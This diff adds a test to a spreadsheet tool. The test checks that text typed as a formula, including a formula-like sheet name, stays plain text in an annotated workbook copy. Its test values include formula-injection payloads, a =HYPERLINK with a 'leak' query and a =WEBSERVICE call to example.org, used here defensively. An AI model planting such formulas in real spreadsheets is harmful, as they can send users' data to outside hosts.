@@ -130,3 +130,27 @@ def test_dropdowns_the_copy_would_lose_are_put_back(tmp_path, make_workbook, sch
     from competency_maps.xlsx.blank import list_refs
     [topics] = [dv for dv in ws.data_validations.dataValidation if dv.type == "list" and "A2" in dv.sqref]
     assert topics.formula1 == list_refs(schema)["Topics"]
+
+
+def test_text_typed_as_a_formula_stays_text_in_the_copy(tmp_path, make_workbook):
+    """A partner's "=…" typed as text, and the Check sheet quoting it, are string cells in the copy."""
+    hyperlink = '=HYPERLINK("http://example.org/?leak=1","click")'
+
+    def edit(wb):
+        for ref, value in (("SWOT!D3", hyperlink), ("SWOT!B2", '=WEBSERVICE("http://example.org")'),
+                           ("TOWS!D2", "#N/A")):
+            sheet, cell = ref.split("!")
+            wb[sheet][cell] = value
+            wb[sheet][cell].data_type = "s"
+        wb.create_sheet("=1+1")["A1"] = "a sheet whose name looks like a formula"
+
+    path = make_workbook(tmp_path, edit=edit, name="Moveo.xlsx")
+    code, out = check(path, "--annotate", tmp_path / "annotated")
+    copy = tmp_path / "annotated" / "Moveo.xlsx"
+    assert code == 1 and copy.exists(), out
+    wb = load_workbook(copy)
+    assert wb["SWOT"]["D3"].value == hyperlink and wb["SWOT"]["D3"].data_type == "s"
+    assert wb["SWOT"]["B2"].data_type == "s" and wb["TOWS"]["D2"].data_type == "s"
+    check_cells = [c for row in wb["Check"].iter_rows() for c in row if isinstance(c.value, str)]
+    assert check_cells and {c.data_type for c in check_cells} == {"s"}
+    assert any(c.value.startswith("=1+1") for c in check_cells)  # the place of the odd sheet's issue
